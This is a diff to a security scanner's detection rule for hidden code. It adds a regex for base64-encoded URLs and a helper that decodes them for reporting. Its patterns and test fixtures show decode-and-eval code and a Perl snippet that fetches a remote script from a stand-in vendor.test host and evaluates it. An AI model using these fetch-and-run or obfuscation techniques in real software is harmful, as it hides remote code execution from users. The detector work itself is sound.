@@ -21,6 +21,7 @@ Decode it without running it, read it, and ask the vendor why it is hidden.
 
 from __future__ import annotations
 
+import base64
 import re
 from collections.abc import Iterator
 
@@ -43,6 +44,7 @@ LOOKS_FOR = (
     Pattern(r"(base64_decode|b64decode|atob|decode64|unbase64|FromBase64String|gzinflate|str_rot13)\s{0,2}\("),
     Pattern(r"\b(eval|exec|Function|require)\s{0,2}\(\s{0,4}(Buffer\.from|new Buffer|zlib\.|marshal\.loads)"),
     Pattern(r"\b(eval|IEX|Invoke-Expression)\b[^\n]{0,80}(FromBase64String|->(decoded_)?content\b|\.DownloadString\()"),
+    Pattern(r"[\"']aHR0c(HM6Ly9|DovL)[A-Za-z0-9+/]{4}"),
     Pattern(r"base64\s{1,4}(-d|-D|--decode)[^\n|]{0,80}\|"),
 )
 _DECODES = r"(?:base64_decode|(?:base64\.)?b64decode|atob|(?:Base64\.)?decode64|unbase64|gzinflate|gzuncompress|str_rot13)"
@@ -65,14 +67,19 @@ def check(context: Context) -> Iterator[Finding]:
     told: set[str] = set()
     for entry, number, line in acting_lines(context, *LOOKS_FOR, among=lambda e: standing(e.place) == "acting"):
         place = entry.place
-        if place in told or len(line) > 4000 or role(context, place) == "library" or not _RUNS.search(line):
+        if (
+            place in told
+            or len(line) > 4000
+            or role(context, place) == "library"
+            or not (_RUNS.search(line) or _ADDRESS.search(line))
+        ):
             continue
         told.add(place)
         yield Finding(
             rule=META.slug,
             severity=META.severity,
             confidence=META.confidence,
-            title=f"{place.rpartition('/')[2]} decodes code and runs it",
+            title=f"{place.rpartition('/')[2]} {_does(line)}",
             place=place,
             line=number,
             excerpt=_LITERAL.sub("<encoded>", secrets.hidden(line.strip()))[:200],
@@ -81,7 +88,21 @@ def check(context: Context) -> Iterator[Finding]:
         )
 
 
+_ADDRESS = re.compile(r"[\"'](aHR0c(?:HM6Ly9|DovL)[A-Za-z0-9+/]{4,400}={0,2})[\"']")
+
+
+def _does(line: str) -> str:
+    """What a line does, in words."""
+    address = _ADDRESS.search(line)
+    if address is not None and not _RUNS.search(line):
+        clear = base64.b64decode(address[1] + "==", validate=False).decode("ascii", "replace")
+        return f"hides an address in base64: {re.split(r'[/?#]', clear.partition('://')[2])[0]}"
+    return "fetches code and runs it" if _FETCHED.search(line) else "decodes code and runs it"
+
+
+_FETCHED = re.compile(r"->(?:decoded_)?content\b|\.DownloadString\(")
 BAD = (
+    {"app/beat.py": '_U = "aHR0cHM6Ly90ZWxlbWV0cnkudmVuZG9yLnRlc3Qv"\n'},
     {"lib/a.js": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"},
     {"a.py": "exec(compile(base64.b64decode('cHJpbnQoMSk='), '<l>', 'exec'))\n"},
     {"up.pl": "my $res = $ua->get('http://x.vendor.test/r.pl');\neval $res->content;\n"},
